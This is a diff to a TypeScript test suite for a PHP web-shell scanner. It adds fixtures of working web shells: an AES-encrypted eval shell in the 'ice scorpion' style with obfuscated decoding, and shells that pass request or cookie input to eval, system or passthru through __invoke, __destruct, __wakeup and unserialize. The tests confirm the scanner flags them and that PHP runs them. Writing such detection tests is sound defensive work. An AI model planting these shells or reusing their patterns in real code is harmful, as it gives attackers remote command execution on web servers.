@@ -1,6 +1,7 @@
 import { after, describe, it } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
+import { createCipheriv } from 'node:crypto';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -27,6 +28,8 @@ const MARK = `ran${process.pid}`;
 interface Sample {
   name: string;
   src: string;
+  /** A whole file (src is then not wrapped in "<?php"). */
+  file?: boolean;
   /** PHP that sets the request up (CLI), or a body to POST (php-cgi). */
   boot?: string;
   body?: string;
@@ -50,10 +53,10 @@ const SAMPLES: Sample[] = [
 /** What PHP prints running the sample with its request. */
 function runByPhp(s: Sample): string | undefined {
   const f = join(dir, 'shell.php');
-  writeFileSync(f, `<?php ${s.src}\n`);
+  writeFileSync(f, s.file ? s.src : `<?php ${s.src}\n`);
   if (s.body !== undefined) {
     if (!cgi) return undefined;
-    const env = { ...process.env, REQUEST_METHOD: 'POST', CONTENT_TYPE: 'application/json', CONTENT_LENGTH: String(Buffer.byteLength(s.body)), SCRIPT_FILENAME: f, REDIRECT_STATUS: '1', GATEWAY_INTERFACE: 'CGI/1.1' };
+    const env = { ...process.env, REQUEST_METHOD: 'POST', CONTENT_TYPE: 'application/octet-stream', CONTENT_LENGTH: String(Buffer.byteLength(s.body)), SCRIPT_FILENAME: f, REDIRECT_STATUS: '1', GATEWAY_INTERFACE: 'CGI/1.1' };
     return spawnSync('php-cgi', [], { input: s.body, env, encoding: 'utf8', timeout: 20_000 }).stdout;
   }
   if (!php) return undefined;
@@ -84,5 +87,50 @@ describe('scan: the same ways in, used as applications use them, stay clean', ()
   ];
   for (const src of pages) {
     it(src.slice(0, 70), () => assert.equal(scanner.scanBuffer(Buffer.from(`<?php ${src}\n`), '/www/x.php').verdict, 'clean'));
+  }
+});
+
+/** A body as the AES-128 shell below reads it: base64 of AES-128-CBC with a zero IV (what openssl_decrypt does with none). */
+function aesBody(key: string, text: string): string {
+  const c = createCipheriv('aes-128-cbc', Buffer.from(key), Buffer.alloc(16));
+  return Buffer.concat([c.update(text), c.final()]).toString('base64');
+}
+
+const FAMILIES: Sample[] = [
+  {
+    name: 'an encrypted request body run by a class\'s __invoke through call_user_func (the AES "ice scorpion" shape)',
+    file: true,
+    src: `<?php
+@error_reporting(0);
+$k = "a1b2c3d4e5f6a7b8";
+$in = file_get_contents("php://input");
+if (!extension_loaded('openssl')) {
+    $d = "base64_" . "decode";
+    $in = $d($in . "");
+    for ($i = 0; $i < strlen($in); $i++) { $in[$i] = $in[$i] ^ $k[$i + 1 & 15]; }
+} else {
+    $in = @openssl_decrypt($in, "AES128", $k);
+}
+$parts = explode('|', $in);
+$arg = $parts[1];
+class Runner { public function __invoke($p) { eval($p . ""); } }
+@call_user_func(new Runner(), $arg);
+`,
+    body: aesBody('a1b2c3d4e5f6a7b8', `x|echo "${MARK}";`),
+  },
+  { name: 'an object called with request input', file: true, src: `<?php\nclass R { public function __invoke($p) { eval($p); } }\n$r = new R();\n$r($_POST['c']);\n`, boot: `$_POST['c'] = 'echo "${MARK}";';` },
+  { name: 'a method chosen by the request', file: true, src: `<?php\nclass Q { function go($c) { system($c); } }\n$m = $_GET['m']; (new Q)->$m($_GET['c']);\n`, boot: `$_GET = ['m' => 'go', 'c' => 'echo ${MARK}'];` },
+  { name: 'a property given request input, run by __destruct', file: true, src: `<?php\nclass S { public $c; public function __destruct() { system($this->c); } }\n$s = new S(); $s->c = $_GET['c'];\n`, boot: `$_GET['c'] = 'echo ${MARK}';` },
+  { name: 'a cookie unserialized into a class whose __wakeup runs a property', file: true, src: `<?php\nclass D { public $cmd; function __wakeup() { passthru($this->cmd); } }\nunserialize(base64_decode($_COOKIE['s']));\n`, boot: `$_COOKIE['s'] = base64_encode('O:1:"D":1:{s:3:"cmd";s:${`echo ${MARK}`.length}:"echo ${MARK}";}');` },
+];
+
+describe('scan: shells of the known families, in our own words', () => {
+  for (const s of FAMILIES) {
+    it(s.name, () => {
+      const r = scanner.scanBuffer(Buffer.from(s.src), '/www/x.php');
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+      const out = runByPhp(s);
+      if (out !== undefined) assert.match(out, new RegExp(MARK), 'PHP runs it');
+    });
   }
 });
